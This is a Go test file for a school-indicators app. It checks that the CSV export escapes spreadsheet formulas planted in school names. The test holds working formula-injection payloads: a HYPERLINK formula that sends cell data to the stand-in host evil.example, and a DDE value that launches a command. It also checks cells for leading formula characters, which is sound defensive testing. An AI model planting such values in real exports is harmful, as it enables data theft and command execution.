package app_test

import (
	"encoding/csv"
	"encoding/json"
	"net/http"
	"regexp"
	"strings"
	"testing"

	"github.com/kopilka/kopilka/internal/iom"
	"github.com/kopilka/kopilka/internal/ru"
)

// TestIndicatorsCSVShowsPlantedFormulasAsText: school editors name their
// schools through the API; a name that is a spreadsheet formula reaches
// the curator's CSV export as text, an apostrophe before it, while the
// figures stay numbers.
func TestIndicatorsCSVShowsPlantedFormulasAsText(t *testing.T) {
	a := fixture.App(t)
	h, _ := serve(t, a)
	planted := map[string]string{ // actor → the name the editor gives the school
		"editorA": `=HYPERLINK("http://evil.example/?d="&A2,"x")`,
		"editorB": "@SUM(1+1)",
	}
	for actor, name := range planted {
		org := map[string]string{"editorA": "orgA", "editorB": "orgB"}[actor]
		body, _ := json.Marshal(map[string]string{"name": name})
		rec := send(h, http.MethodPatch, "/api/collections/organizations/records/"+fixture.IDs[org], fixture.Tokens[actor], "application/json", body)
		if rec.Code != http.StatusOK {
			t.Fatalf("%s renames the school: %d %s", actor, rec.Code, rec.Body.String())
		}
	}
	// a curator adds a school whose name starts with a minus
	body, _ := json.Marshal(map[string]string{"name": "-2+3+cmd|' /C calc'!A0", "kind": "school"})
	if rec := send(h, http.MethodPost, "/api/collections/organizations/records", fixture.Tokens["curator"], "application/json", body); rec.Code != http.StatusOK {
		t.Fatalf("curator adds a school: %d %s", rec.Code, rec.Body.String())
	}

	curator := newBrowser(t, h)
	curator.login("curator")
	rec := curator.get("/app/indicators.csv?from=2026-09-01&to=2027-05-31")
	if rec.Code != http.StatusOK || rec.Header().Get("Content-Type") != "text/csv; charset=utf-8" {
		t.Fatalf("indicators CSV: %d %s", rec.Code, rec.Header().Get("Content-Type"))
	}
	r := csv.NewReader(strings.NewReader(strings.TrimPrefix(rec.Body.String(), "\xef\xbb\xbf")))
	r.Comma = ';'
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	names := map[string]bool{}
	for _, row := range rows {
		names[row[1]] = true
		for i, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("a cell a spreadsheet would evaluate, column %d: %q", i+1, cell)
			}
		}
	}
	for _, want := range []string{`'=HYPERLINK("http://evil.example/?d="&A2,"x")`, "'@SUM(1+1)", "'-2+3+cmd|' /C calc'!A0"} {
		if !names[want] {
			t.Errorf("no row named %q in:\n%s", want, rec.Body.String())
		}
	}
	// the figures are still plain numbers
	figure := regexp.MustCompile(`^-?[0-9]+(,[0-9]+)?$`)
	for _, row := range rows[1:] {
		for i, cell := range row[2:7] {
			if !figure.MatchString(cell) {
				t.Errorf("%s, %s: column %d is %q, not a number", row[0], row[1], i+3, cell)
			}
		}
	}
	// the participation share of the municipality counts its four teachers
	found := false
	for _, row := range rows {
		if row[0] == ru.Indicators[iom.Participation] && row[1] == "Муниципалитет в целом" {
			found = row[3] == "4"
		}
	}
	if !found {
		t.Errorf("no municipal participation row of 4 teachers in:\n%s", rec.Body.String())
	}
}
